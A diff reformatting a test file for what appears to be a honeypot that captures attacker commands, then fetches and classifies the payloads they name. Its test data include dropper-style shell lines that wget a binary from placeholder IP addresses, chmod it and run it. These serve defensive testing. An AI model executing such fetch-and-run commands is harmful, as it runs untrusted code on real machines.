@@ -44,7 +44,12 @@ def test_a_command_becomes_a_url_in_the_feed(bench: Bench) -> None:
     assert verdict(bench).verdict == "malicious-observed"
     assert listed(bench) == [URL.decode()]
     row = urls.page(bench.store).rows[0]
-    assert (row.sha256, row.kind, row.outcome, row.status) == (hashlib.sha256(ELF).hexdigest(), "elf", "fetched", 200)
+    assert (row.sha256, row.kind, row.outcome, row.status) == (
+        hashlib.sha256(ELF).hexdigest(),
+        "elf",
+        "fetched",
+        200,
+    )
     assert sessions.detail(bench.store, session).summary.urls == 2  # type: ignore[union-attr]
     assert sessions.detail(bench.store, session).summary.classed == "dropper"  # type: ignore[union-attr]
     artifact = artifacts.page(bench.store).rows[0]
@@ -102,7 +107,9 @@ def test_known_benign_sites_stay_benign_even_when_their_scripts_are_run(bench: B
 
 def test_a_script_that_was_downloaded_is_searched_and_its_urls_are_captured(bench: Bench) -> None:
     second = "http://198.51.100.9/bins/arm"
-    bench.fetcher.bodies[URL.decode()] = b"#!/bin/sh\nwget http://198.51.100.9/bins/arm; chmod 777 arm; ./arm\n"
+    bench.fetcher.bodies[URL.decode()] = (
+        b"#!/bin/sh\nwget http://198.51.100.9/bins/arm; chmod 777 arm; ./arm\n"
+    )
     bench.fetcher.bodies[second] = ELF
     attack(bench)
     bench.settle()
@@ -110,7 +117,10 @@ def test_a_script_that_was_downloaded_is_searched_and_its_urls_are_captured(benc
     assert set(listed(bench)) == {URL.decode(), second}
     detail = urls.detail(bench.store, second)
     assert detail is not None
-    assert detail.sightings[0].sighting.parent_sha256 == hashlib.sha256(bench.fetcher.bodies[URL.decode()]).hexdigest()  # type: ignore[arg-type]
+    assert (
+        detail.sightings[0].sighting.parent_sha256
+        == hashlib.sha256(bench.fetcher.bodies[URL.decode()]).hexdigest()
+    )  # type: ignore[arg-type]
 
 
 def test_a_chain_of_scripts_without_end_is_cut(bench: Bench) -> None:
@@ -185,7 +195,10 @@ def test_a_url_that_carries_the_sensors_address_is_withheld(bench: Bench, disgui
     bench.fetcher.bodies[url.decode()] = ELF
     for n in range(2):
         session = bench.visit(
-            b"wget " + url + b" -O y; chmod 755 y; ./y", asks=[(url, b"y")], runs=[[b"./y"]], address=f"203.0.113.{n}"
+            b"wget " + url + b" -O y; chmod 755 y; ./y",
+            asks=[(url, b"y")],
+            runs=[[b"./y"]],
+            address=f"203.0.113.{n}",
         )
         bench.trap_fetches(url, session)
     bench.settle()
